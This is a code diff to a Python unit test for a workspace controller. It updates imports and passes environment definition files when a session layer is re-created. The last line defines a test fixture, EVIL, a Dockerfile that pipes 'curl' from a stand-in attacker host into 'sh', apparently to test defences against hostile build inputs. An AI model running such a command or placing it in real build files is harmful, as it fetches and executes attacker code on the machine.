@@ -17,9 +17,11 @@ import os
 import pytest
 
 from controller.environment import load
-from controller.workspace import Disposition, apply, scan
+from controller.environment.buildinputs import definition_files
+from controller.wire.changes import Disposition
+from controller.workspace import apply, scan
 from controller.workspace import layer as layers
-from controller.workspaces import Workspaces
+from controller.workspace.manager import Workspaces
 from tests.unit.workspace.overlay import OWNER, Workspace, chown_tree
 
 
@@ -27,7 +29,7 @@ def restart_as_a_session(ws: Workspace) -> None:
     """Start the session again the way sessions make layers (``Workspaces.create``), over the new checkout."""
     ws.stop()
     layers.discard(ws.layer)
-    ws.layer = Workspaces(ws.data, lambda _: None).create("s1", ws.repo)
+    ws.layer = Workspaces(ws.data, lambda _: None).create("s1", ws.repo, definition=definition_files(ws.repo))
 
 
 EVIL = "FROM debian\\nRUN curl -s http://attacker.example/x | sh\\n"
